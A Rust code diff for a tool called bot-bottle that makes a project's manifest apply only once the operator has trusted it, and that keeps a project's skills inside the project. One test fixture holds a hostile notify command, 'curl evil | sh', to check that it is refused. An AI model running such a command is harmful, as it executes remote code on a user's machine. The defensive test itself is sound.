@@ -1,5 +1,5 @@
 //! Finding and reading manifest files: embedded defaults, then
-//! `$BOT_BOTTLE_HOME`, then the directory bot-bottle runs from.
+//! `$BOT_BOTTLE_HOME`, then the directory bot-bottle runs from (`project`).
 
 use std::fs;
 use std::path::{Path, PathBuf};
@@ -7,9 +7,11 @@ use std::path::{Path, PathBuf};
 use super::parse::{self, RawAgent, RawBottle, RawImage, Source};
 use super::resolve::{self, Level};
 use super::{
-    Agent, Bottle, Dockerfile, Egress, ImageSource, Manifest, ManifestError, Origin, Place, Skill,
-    SshEntry,
+    Agent, Bottle, Dockerfile, Egress, ImageSource, Manifest, ManifestError, Origin, Place,
+    Provenance, Skill, SshEntry, Summary,
 };
+
+mod project;
 
 const EMBEDDED_JSON: &str = include_str!("defaults/bot-bottle.json");
 const EMBEDDED_FILES: &[(&str, &str)] = &[
@@ -29,71 +31,105 @@ const EMBEDDED_FILES: &[(&str, &str)] = &[
 pub struct Sources {
     /// `$BOT_BOTTLE_HOME` (default `~/.bot-bottle`).
     pub home: PathBuf,
-    /// The directory bot-bottle runs from.
+    /// The directory bot-bottle runs from: a project's, when it has a
+    /// `bot-bottle.json` or a `.bot-bottle/`.
     pub cwd: PathBuf,
     /// The user's home folder, for `~/` in paths.
     pub user_home: Option<PathBuf>,
 }
 
-/// Reads, parses and validates every source.
+impl Sources {
+    /// The manifests of `$BOT_BOTTLE_HOME` (`home`) and of `cwd`, with
+    /// `~/` in paths taken from `$HOME`.
+    pub fn new(home: &Path, cwd: &Path) -> Sources {
+        Sources {
+            home: home.to_path_buf(),
+            cwd: cwd.to_path_buf(),
+            user_home: std::env::var_os("HOME")
+                .filter(|h| !h.is_empty())
+                .map(PathBuf::from),
+        }
+    }
+}
+
+/// Which source a level is: the operator's own, or a project's.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    Embedded,
+    Home,
+    Project,
+}
+
+/// The definitions of one level, parsed, before their files are checked.
+#[derive(Debug, Default)]
+struct RawLevel {
+    agents: Vec<RawAgent>,
+    bottles: Vec<RawBottle>,
+}
+
+/// Reads, parses and validates every source. The embedded defaults and
+/// `$BOT_BOTTLE_HOME` are the operator's: an error in them is the load's.
+/// The directory's own manifest is loaded apart (see `project`): it is
+/// used only when trusted, and its failure is `Manifest::project`, never
+/// the load's.
 pub fn load(sources: &Sources) -> Result<Manifest, ManifestError> {
+    let base = base_levels(sources)?;
+    let manifest = resolve::resolve(base.clone())?;
+    Ok(project::add(sources, base, manifest))
+}
+
+/// What `bot-bottle trust` shows of the directory's manifest, checked as
+/// if it were trusted; None when there is none. Its errors are the
+/// project's (and the operator's, which come first).
+pub fn inspect(sources: &Sources) -> Result<Option<Summary>, ManifestError> {
+    let base = base_levels(sources)?;
+    let manifest = resolve::resolve(base.clone())?;
+    project::inspect(sources, base, &manifest)
+}
+
+/// The embedded defaults and `$BOT_BOTTLE_HOME`'s files, checked.
+fn base_levels(sources: &Sources) -> Result<Vec<Level>, ManifestError> {
     let embedded = Source {
         origin: Origin::Embedded,
         base_dir: None,
         home: None,
     };
     let (agents, bottles) = parse::parse_json(EMBEDDED_JSON, &embedded)?;
-    let mut levels = vec![finish_level(agents, bottles, sources)?];
-    for (dir, json_shown, agents_dir, agents_shown) in [
-        (
-            sources.home.clone(),
-            sources.home.join("bot-bottle.json"),
-            sources.home.join("agents"),
-            sources.home.join("agents"),
-        ),
-        (
-            sources.cwd.clone(),
-            PathBuf::from("bot-bottle.json"),
-            sources.cwd.join(".bot-bottle/agents"),
-            PathBuf::from(".bot-bottle/agents"),
-        ),
-    ] {
-        let (mut agents, mut bottles) = (Vec::new(), Vec::new());
-        let json = dir.join("bot-bottle.json");
-        if json.is_file() {
-            let src = Source {
-                origin: Origin::File(json_shown),
-                base_dir: Some(dir.clone()),
-                home: sources.user_home.clone(),
-            };
-            let text = read(&json, &src.origin)?;
-            if dir != sources.home && parse::notify_command(&text, &src)?.is_some() {
-                return Err(ManifestError::Invalid {
-                    place: Place::file(&src.origin),
-                    key: "notify".into(),
-                    message: "is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not run commands on your machine".into(),
-                    hint: Some(format!("move it to {}", sources.home.join("bot-bottle.json").display())),
-                });
-            }
-            let (a, b) = parse::parse_json(&text, &src)?;
-            agents.extend(a);
-            bottles.extend(b);
-        }
-        for (path, stem) in markdown_files(&agents_dir)? {
-            let src = Source {
-                origin: Origin::File(agents_shown.join(format!("{stem}.md"))),
-                base_dir: agents_dir.parent().map(Path::to_path_buf),
-                home: sources.user_home.clone(),
-            };
-            agents.push(parse::parse_agent_md(
-                &read(&path, &src.origin)?,
-                &stem,
-                &src,
-            )?);
-        }
-        levels.push(finish_level(agents, bottles, sources)?);
+    let embedded = RawLevel { agents, bottles };
+    let home = read_home(sources)?;
+    Ok(vec![
+        finish_level(embedded, sources, Kind::Embedded)?,
+        finish_level(home, sources, Kind::Home)?,
+    ])
+}
+
+fn read_home(sources: &Sources) -> Result<RawLevel, ManifestError> {
+    let dir = &sources.home;
+    let mut level = RawLevel::default();
+    let json = dir.join("bot-bottle.json");
+    if json.is_file() {
+        let src = Source {
+            origin: Origin::File(json.clone()),
+            base_dir: Some(dir.clone()),
+            home: sources.user_home.clone(),
+        };
+        let (a, b) = parse::parse_json(&read(&json, &src.origin)?, &src)?;
+        level.agents.extend(a);
+        level.bottles.extend(b);
     }
-    resolve::resolve(levels)
+    let agents_dir = dir.join("agents");
+    for (path, stem) in markdown_files(&agents_dir)? {
+        let src = Source {
+            origin: Origin::File(agents_dir.join(format!("{stem}.md"))),
+            base_dir: Some(dir.clone()),
+            home: sources.user_home.clone(),
+        };
+        let text = read(&path, &src.origin)?;
+        level
+            .agents
+            .push(parse::parse_agent_md(&text, &stem, &src)?);
+    }
+    Ok(level)
 }
 
 /// The notify command of `$BOT_BOTTLE_HOME/bot-bottle.json` (`home`), if
@@ -144,32 +180,41 @@ fn markdown_files(dir: &Path) -> Result<Vec<(PathBuf, String)>, ManifestError> {
 }
 
 /// Checks the files a level names exist, and reads its Dockerfiles.
-fn finish_level(
-    agents: Vec<RawAgent>,
-    bottles: Vec<RawBottle>,
-    sources: &Sources,
-) -> Result<Level, ManifestError> {
-    let agents = agents
+fn finish_level(raw: RawLevel, sources: &Sources, kind: Kind) -> Result<Level, ManifestError> {
+    let agents = raw
+        .agents
         .into_iter()
-        .map(|a| finish_agent(a, sources))
+        .map(|a| finish_agent(a, sources, kind))
         .collect::<Result<_, _>>()?;
-    let bottles = bottles
+    let bottles = raw
+        .bottles
         .into_iter()
         .map(finish_bottle)
         .collect::<Result<_, _>>()?;
     Ok(Level { agents, bottles })
 }
 
-fn finish_agent(raw: RawAgent, sources: &Sources) -> Result<Agent, ManifestError> {
+/// Finds the agent's skills: in its own folder's `skills/`, then (a
+/// project's agent) the project's `.bot-bottle/skills/`, then
+/// `$BOT_BOTTLE_HOME/skills/`. The operator's agents never look in a
+/// project, and a project's skill may not lead outside it.
+fn finish_agent(raw: RawAgent, sources: &Sources, kind: Kind) -> Result<Agent, ManifestError> {
     let mut search: Vec<PathBuf> = raw.skills_dir.iter().cloned().collect();
-    for dir in [
-        sources.cwd.join(".bot-bottle/skills"),
-        sources.home.join("skills"),
-    ] {
+    let project_skills = (kind == Kind::Project).then(|| sources.cwd.join(".bot-bottle/skills"));
+    for dir in project_skills
+        .into_iter()
+        .chain([sources.home.join("skills")])
+    {
         if !search.contains(&dir) {
             search.push(dir);
         }
     }
+    let invalid = |message: String, hint: String| ManifestError::Invalid {
+        place: Place::agent(&raw.origin, &raw.name),
+        key: "skills".into(),
+        message,
+        hint: Some(hint),
+    };
     let mut skills = Vec::new();
     for name in &raw.skills {
         let Some(dir) = search.iter().map(|d| d.join(name)).find(|d| d.is_dir()) else {
@@ -177,16 +222,20 @@ fn finish_agent(raw: RawAgent, sources: &Sources) -> Result<Agent, ManifestError
                 .iter()
                 .map(|d| d.join(name).display().to_string())
                 .collect();
-            return Err(ManifestError::Invalid {
-                place: Place::agent(&raw.origin, &raw.name),
-                key: "skills".into(),
-                message: format!("skill '{name}' not found"),
-                hint: Some(format!(
+            return Err(invalid(
+                format!("skill '{name}' not found"),
+                format!(
                     "make a folder with a SKILL.md in one of: {}",
                     looked.join(", ")
-                )),
-            });
+                ),
+            ));
         };
+        if kind == Kind::Project && !project::stays_inside(sources, &dir) {
+            return Err(invalid(
+                format!("{} leads outside the project", dir.display()),
+                "a project's skill is a folder of its own, not a link elsewhere".into(),
+            ));
+        }
         skills.push(Skill {
             name: name.clone(),
             dir,
@@ -280,7 +329,7 @@ fn finish_bottle(raw: RawBottle) -> Result<(Bottle, Option<String>), ManifestErr
             identity_file,
         });
     }
-    let bottle = Bottle {
+    let mut bottle = Bottle {
         name: raw.name,
         image,
         env: raw.env,
@@ -292,21 +341,33 @@ fn finish_bottle(raw: RawBottle) -> Result<(Bottle, Option<String>), ManifestErr
         limits: raw.limits,
         git: raw.git,
         origin: raw.origin,
+        provenance: Provenance::default(),
     };
+    bottle.provenance = Provenance::of(&bottle);
     Ok((bottle, raw.extends))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::manifest::{Project, TRUST_FILE, TrustStore};
     use crate::provider::Provider;
 
-    fn sources(dir: &Path) -> Sources {
+    pub(super) fn sources(dir: &Path) -> Sources {
         Sources {
             home: dir.join("home"),
             cwd: dir.join("proj"),
             user_home: Some(dir.to_path_buf()),
         }
+    }
+
+    /// Records the project of `s` as trusted, as it is now.
+    pub(super) fn trust(s: &Sources) {
+        let summary = inspect(s).unwrap().unwrap();
+        let mut store = TrustStore::read(&s.home).unwrap();
+        store.trust(&summary.dir, &summary.digest);
+        fs::create_dir_all(&s.home).unwrap();
+        fs::write(s.home.join(TRUST_FILE), store.to_json()).unwrap();
     }
 
     #[test]
@@ -347,7 +408,8 @@ mod tests {
             assert_eq!(got, want, "{json}");
             assert_eq!(load(&s).is_ok(), want.is_ok(), "{json}");
         }
-        // A project's manifest may not run commands on the operator's machine.
+        // A project's manifest may not run commands on the operator's
+        // machine: it is not used, whatever else it holds.
         let dir = tempfile::tempdir().unwrap();
         let s = sources(dir.path());
         fs::create_dir_all(&s.cwd).unwrap();
@@ -356,11 +418,12 @@ mod tests {
             r#"{"notify": {"command": "curl evil | sh"}}"#,
         )
         .unwrap();
-        let err = load(&s).unwrap_err();
+        let m = load(&s).unwrap();
         assert_eq!(
-            err.to_string(),
-            "bot-bottle.json: notify: is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not run commands on your machine"
+            m.project.note().unwrap(),
+            "./bot-bottle.json: notify: is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not run commands on your machine; the project's agents and bottles are not used"
         );
+        assert!(inspect(&s).is_err(), "it cannot be trusted either");
         assert_eq!(notify_command(&s.home).unwrap(), None);
     }
 
@@ -370,6 +433,7 @@ mod tests {
         let m = load(&sources(dir.path())).unwrap();
         assert_eq!(m.agent_names(), ["claude", "codex", "shell"]);
         assert_eq!(m.agents["shell"].provider, Provider::Shell);
+        assert_eq!(m.project, Project::None);
         let claude = &m.bottles["claude"];
         assert_eq!(claude.egress.routes[0].host, "api.anthropic.com");
         assert!(
@@ -378,7 +442,7 @@ mod tests {
     }
 
     #[test]
-    fn cwd_replaces_home_replaces_embedded() {
+    fn a_trusted_cwd_replaces_home_replaces_embedded() {
         let dir = tempfile::tempdir().unwrap();
         let s = sources(dir.path());
         fs::create_dir_all(s.home.join("agents")).unwrap();
@@ -404,7 +468,21 @@ mod tests {
         )
         .unwrap();
 
+        // Not trusted: the operator's own, and the line that says so.
         let m = load(&s).unwrap();
+        assert_eq!(
+            m.bottles["default"].image,
+            Some(ImageSource::Image("home-image".into()))
+        );
+        assert_eq!(m.agents["dev"].provider, Provider::Shell);
+        assert!(matches!(
+            m.project,
+            Project::Untrusted { changed: false, .. }
+        ));
+
+        trust(&s);
+        let m = load(&s).unwrap();
+        assert!(m.project.is_trusted());
         assert_eq!(
             m.bottles["default"].image,
             Some(ImageSource::Image("cwd-image".into()))
@@ -413,22 +491,39 @@ mod tests {
         assert_eq!(m.agents["dev"].provider, Provider::Codex);
         assert_eq!(
             m.agents["dev"].origin,
-            Origin::File(".bot-bottle/agents/dev.md".into())
+            Origin::Project(".bot-bottle/agents/dev.md".into())
+        );
+        assert_eq!(
+            m.project.replaces("bottle", "default"),
+            Some(&Origin::File(s.home.join("bot-bottle.json")))
         );
     }
 
     #[test]
-    fn skills_are_found_in_cwd_then_home() {
+    fn a_projects_agent_finds_skills_in_the_project_then_home() {
         let dir = tempfile::tempdir().unwrap();
         let s = sources(dir.path());
         fs::create_dir_all(s.home.join("skills/review")).unwrap();
-        fs::create_dir_all(&s.cwd).unwrap();
+        fs::create_dir_all(s.home.join("skills/lint")).unwrap();
+        fs::create_dir_all(s.cwd.join(".bot-bottle/skills/lint")).unwrap();
         fs::write(
             s.cwd.join("bot-bottle.json"),
-            r#"{"agents": {"dev": {"skills": ["review"]}}}"#,
+            r#"{"agents": {"dev": {"skills": ["review", "lint"]}}}"#,
         )
         .unwrap();
+        trust(&s);
         let m = load(&s).unwrap();
-        assert_eq!(m.agents["dev"].skills[0].dir, s.home.join("skills/review"));
+        let dirs: Vec<&Path> = m.agents["dev"]
+            .skills
+            .iter()
+            .map(|k| k.dir.as_path())
+            .collect();
+        assert_eq!(
+            dirs,
+            [
+                s.home.join("skills/review").as_path(),
+                s.cwd.join(".bot-bottle/skills/lint").as_path()
+            ]
+        );
     }
 }
